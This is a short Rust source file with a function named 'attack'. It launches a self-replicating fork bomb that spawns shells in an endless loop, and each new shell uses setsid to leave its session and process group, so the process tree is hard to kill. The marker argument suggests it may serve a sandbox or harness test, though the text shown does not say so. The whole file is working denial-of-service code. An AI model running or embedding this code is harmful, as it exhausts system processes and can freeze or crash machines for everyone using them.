//! Starts shells without end that leave its session and its process group, and so does each of them.

fn attack() {
    let bomb = "while :; do setsid /bin/sh -c \"$BOMB\" @MARK@ & done";
    let mut shell = std::process::Command::new("/bin/sh");
    let _ = shell.args(["-c", bomb, "@MARK@"]).env("BOMB", bomb).status();
}
